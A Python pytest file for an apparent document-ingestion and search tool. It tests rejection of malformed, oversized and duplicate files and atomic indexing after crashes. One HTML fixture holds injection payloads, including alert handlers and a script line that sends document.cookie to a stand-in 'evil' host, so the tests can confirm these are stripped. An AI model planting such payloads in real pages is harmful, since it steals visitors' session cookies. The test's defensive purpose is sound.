"""Bad documents: each is stored whole or rejected with its reason, the counts are exact,
and no document is ever half-indexed (searchable in part), even when indexing fails midway."""

from __future__ import annotations

import codecs

import numpy as np
import pytest

import factbot.ingest.documents as documents
from factbot.index.store import SentenceStore
from factbot.pipeline import FactBot
from factbot.testing import HashEmbedder
from factbot.types import FactbotError, Rejected
from tests.conftest import ARTICLE

GOOD = "The ministry opened a new bridge in Mosul. Traffic resumed on Sunday."  # 2 sentences
ARTICLE_SENTENCES = 18  # the bundled article (tests/test_ingest.py counts them)


@pytest.fixture
def bot(tmp_path):
    return FactBot.open(home=tmp_path / "home", embedder="hash")


def write(folder, name, data: bytes | str):
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def assert_store_consistent(bot: FactBot, expected: dict[str, str]) -> None:
    """The store holds exactly `expected` (doc_id -> text): each document's sentences are all
    there, slice its text, and no sentence of any other document is left behind."""
    assert {d.doc_id: d.text for d in bot.documents()} == expected
    stored = set(bot.store.sentence_ids())
    wanted = set()
    for doc_id, text in expected.items():
        sentences = documents.sentences_of(bot.store.documents()[doc_id])
        assert [s.sentence_id for s in bot.sentences(doc_id)] == [s.sentence_id for s in sentences]
        for s in bot.sentences(doc_id):
            assert text[s.start:s.end] == s.text
        wanted |= {s.sentence_id for s in sentences}
    assert stored == wanted


# -- each kind of bad file, mixed with a good one ------------------------------------------

BAD_FILES = {
    # name: (bytes, reason as printed)
    "empty.txt": (b"", "empty document"),
    "blank.txt": (b" \n\t\r\n  ", "empty document"),
    "invisible.txt": ("\u200b\ufeff\u200f\u202b\u2069\n".encode(), "empty document"),
    "latin1.txt": (b"Caf\xe9 au lait. It was good.", "not UTF-8 text (byte 3); save it as UTF-8"),
    "truncated.txt": ("جندي".encode()[:-1], "not UTF-8 text (byte 6); save it as UTF-8"),
    "binary.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not UTF-8 text (byte 0); save it as UTF-8"),
    "nul.txt": (b"One sentence.\x00Another one.", "contains NUL bytes; is it a binary file?"),
    "utf16-no-bom.txt": ("Hello there.".encode("utf-16-le"), "contains NUL bytes; is it a binary file?"),
    "script-only.html": (b"<html><script>alert(1)</script><style>p{}</style></html>", "empty document"),
    "image.pdf": (b"%PDF-1.4", "unsupported file type; use .txt, .md, .html, .htm"),
}


@pytest.mark.parametrize("name", BAD_FILES)
def test_bad_file_is_rejected_with_its_reason_and_the_rest_indexed(bot, tmp_path, name):
    data, reason = BAD_FILES[name]
    corpus = tmp_path / "corpus"
    write(corpus, "good.txt", GOOD)
    bad = write(corpus, name, data)
    report = bot.ingest([corpus, bad])  # the pdf is only found when named: folders list known types
    assert report.rejected == (Rejected(str(bad), f"{bad}: {reason}"),)
    assert (report.documents, report.sentences, report.added) == (1, 2, 2)
    assert_store_consistent(bot, {"good": GOOD})


@pytest.mark.parametrize("bom, codec", [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be"),
                                        (codecs.BOM_UTF8, "utf-8")], ids=["utf16le", "utf16be", "utf8-bom"])
def test_bom_files_are_stored_whole(bot, tmp_path, bom, codec):
    text = ARTICLE.read_text(encoding="utf-8")
    path = write(tmp_path / "c", "article.txt", bom + text.encode(codec))
    report = bot.ingest([path])
    assert (report.documents, report.sentences, report.rejected) == (1, ARTICLE_SENTENCES, ())
    assert bot.document_text("article") == text  # the BOM is not part of the text; nothing else changes
    assert_store_consistent(bot, {"article": text})
    assert "2500" in bot.search("حوالي 2500 جندي أمريكي", k=1)[0].text


def test_50_mb_file_is_rejected_whole_without_reading_it(bot, tmp_path, monkeypatch):
    big = tmp_path / "c" / "big.txt"
    big.parent.mkdir()
    sentence = "هذه جملة طويلة في ملف كبير جدا. "
    with big.open("w", encoding="utf-8") as f:
        f.write(sentence * (50 * 2**20 // len(sentence.encode()) + 1))
    size = big.stat().st_size
    assert size >= 50 * 2**20
    write(tmp_path / "c", "good.txt", GOOD)
    read, real_read = [], type(big).read_bytes
    monkeypatch.setattr(type(big), "read_bytes", lambda self: read.append(self.name) or real_read(self))
    report = bot.ingest([tmp_path / "c"])
    assert read == ["good.txt"]  # the size is checked first: 50 MB never enters memory
    assert report.rejected == (Rejected(str(big), f"{big}: {size:,} bytes is over the 5,000,000-byte limit"),)
    assert (report.documents, report.sentences) == (1, 2)
    assert_store_consistent(bot, {"good": GOOD})


def test_size_limit_is_inclusive(bot, tmp_path, monkeypatch):
    monkeypatch.setattr(documents, "MAX_DOCUMENT_BYTES", 40)
    at = write(tmp_path / "c", "at.txt", "A" * 37 + " b.")  # exactly 40 bytes: accepted
    over = write(tmp_path / "c", "over.txt", "A" * 38 + " b.")  # 41 bytes: rejected
    report = bot.ingest([tmp_path / "c"])
    assert report.rejected == (Rejected(str(over), f"{over}: 41 bytes is over the 40-byte limit"),)
    assert [d.doc_id for d in bot.documents()] == ["at"] and at.stat().st_size == 40


def test_same_file_twice_is_indexed_once(bot, tmp_path):
    a = write(tmp_path / "c", "a.txt", GOOD)
    copy = write(tmp_path / "other", "a.txt", GOOD)  # same name, same content elsewhere
    report = bot.ingest([a, a, tmp_path / "c", copy])
    assert (report.documents, report.sentences, report.added, report.embedded, report.rejected) == (1, 2, 2, 2, ())
    assert_store_consistent(bot, {"a": GOOD})


def test_two_files_claiming_one_id_keep_the_first(bot, tmp_path):
    first = write(tmp_path / "c", "Talks Report.txt", GOOD)
    second = write(tmp_path / "c", "talks-report.md", "A different text. With two sentences.")
    report = bot.ingest([tmp_path / "c"])
    assert report.rejected == (Rejected(str(second), "another file already has the id 'talks-report'; rename one"),)
    assert_store_consistent(bot, {"talks-report": GOOD})
    assert first.exists()


def test_same_text_under_two_names_is_two_documents(bot, tmp_path):
    write(tmp_path / "c", "a.txt", GOOD)
    write(tmp_path / "c", "b.txt", GOOD)
    report = bot.ingest([tmp_path / "c"])
    # 2 documents x 2 sentences = 4 added; the 2 distinct texts are embedded once each,
    # since documents share embedder batches (ingest.CHUNK_SENTENCES)
    assert (report.documents, report.sentences, report.added, report.embedded) == (2, 4, 4, 2)
    assert_store_consistent(bot, {"a": GOOD, "b": GOOD})


HOSTILE_HTML = """<!doctype html><html><head><title>Page</title>
<script>document.write('INJECTED-HEAD')</script><style>body{content:'INJECTED-CSS'}</style></head>
<body onload="alert('INJECTED-ONLOAD')">
<p>The ministry opened a new bridge in Mosul.</p>
<script type="module">fetch('//evil/'+document.cookie) // INJECTED-BODY</script>
<noscript>INJECTED-NOSCRIPT</noscript><template>INJECTED-TEMPLATE</template>
<iframe srcdoc="INJECTED-IFRAME"></iframe>
<p>Traffic <b>resumed</b> on <img src=x onerror="alert('INJECTED-IMG')">Sunday.</p>
</body></html>"""


def test_html_scripts_and_handlers_are_never_stored(bot, tmp_path):
    path = write(tmp_path / "c", "page.html", HOSTILE_HTML)
    report = bot.ingest([path])
    assert (report.documents, report.rejected) == (1, ())
    text = bot.document_text("page")
    assert "INJECTED" not in text and "alert" not in text and "<" not in text
    assert "The ministry opened a new bridge in Mosul." in text
    assert_store_consistent(bot, {"page": text})
    assert all("INJECTED" not in h.text for h in bot.search("INJECTED alert document cookie", k=10))


def test_one_megabyte_sentence_is_stored_whole(bot, tmp_path):
    text = "كلمة " * 200_000 + "."  # one sentence with no break: 1.2 MB
    path = write(tmp_path / "c", "long.txt", text)
    report = bot.ingest([path])
    assert (report.documents, report.sentences) == (1, 1)
    assert bot.sentences("long")[0].text == text.strip()
    assert_store_consistent(bot, {"long": text})


# -- failures midway leave nothing half-indexed ------------------------------------------------

class FlakyEmbedder(HashEmbedder):
    """Fails on its n-th passage batch: a model crash or OOM halfway through a document."""

    batch_size = 4

    def __init__(self, fail_on_batch: int) -> None:
        super().__init__()
        self.name = "hash:64"  # the same index as the plain hash embedder
        self.batches, self.fail_on_batch = 0, fail_on_batch

    def embed_batch(self, texts, *, query):
        if not query:
            self.batches += 1
            if self.batches == self.fail_on_batch:
                raise RuntimeError("embedder crashed")
        return super().embed_batch(texts, query=query)


def test_embedder_failure_midway_leaves_no_partial_document(tmp_path):
    article = ARTICLE.read_text(encoding="utf-8")
    corpus = tmp_path / "c"
    write(corpus, "a-good.txt", GOOD)
    write(corpus, "b-article.txt", article)
    flaky = FactBot.open(home=tmp_path / "home", embedder=FlakyEmbedder(fail_on_batch=3))
    with pytest.raises(RuntimeError, match="embedder crashed"):
        flaky.ingest([corpus])
    # both documents share one embedding chunk (ingest.CHUNK_SENTENCES), which failed at its
    # 3rd batch before anything was written: neither is visible, nothing half-indexed
    assert_store_consistent(flaky, {})
    again = FactBot.open(home=tmp_path / "home", embedder="hash").ingest([corpus])
    assert (again.documents, again.added, again.unchanged) == (2, ARTICLE_SENTENCES + 2, 0)
    assert_store_consistent(FactBot.open(home=tmp_path / "home", embedder="hash"),
                            {"a-good": GOOD, "b-article": article})


def test_store_failure_midway_leaves_no_partial_document(bot, tmp_path, monkeypatch):
    article = ARTICLE.read_text(encoding="utf-8")
    path = write(tmp_path / "c", "article.txt", article)
    monkeypatch.setattr(SentenceStore, "max_batch", property(lambda self: 7))
    real, calls = bot.store.sentences.upsert, []

    def dies_on_second(**kw):
        calls.append(len(kw["ids"]))
        if len(calls) == 2:
            raise OSError("disk full")
        return real(**kw)

    monkeypatch.setattr(bot.store.sentences, "upsert", dies_on_second)
    with pytest.raises(OSError, match="disk full"):
        bot.ingest([path])
    assert calls == [7, 7]  # 7 sentences were written, then the write failed
    assert len(bot.store.sentence_ids()) == 7  # they are on disk ...
    assert_store_consistent_visible_only(bot)  # ... but not searchable
    monkeypatch.setattr(bot.store.sentences, "upsert", real)
    report = bot.ingest([path])
    # the 7 orphans are dropped before the document is redone, so all 18 are embedded again
    assert (report.added, report.embedded) == (ARTICLE_SENTENCES, ARTICLE_SENTENCES)
    assert_store_consistent(bot, {"article": article})


def assert_store_consistent_visible_only(bot: FactBot) -> None:
    assert bot.documents() == [] and bot.sentences() == []
    assert bot.search("حوالي 2500 جندي أمريكي", k=10) == []


def test_add_text_rejects_empty_and_strips_html(bot):
    with pytest.raises(FactbotError, match="^pasted: empty document$"):
        bot.add_text("\u200b \n", "pasted")
    doc = bot.add_text(HOSTILE_HTML, "pasted page", html=True)
    assert doc.doc_id == "pasted-page" and "INJECTED" not in doc.text
    assert_store_consistent(bot, {"pasted-page": doc.text})
    assert np.isfinite([h.dense for h in bot.search("bridge Mosul", k=2)]).all()
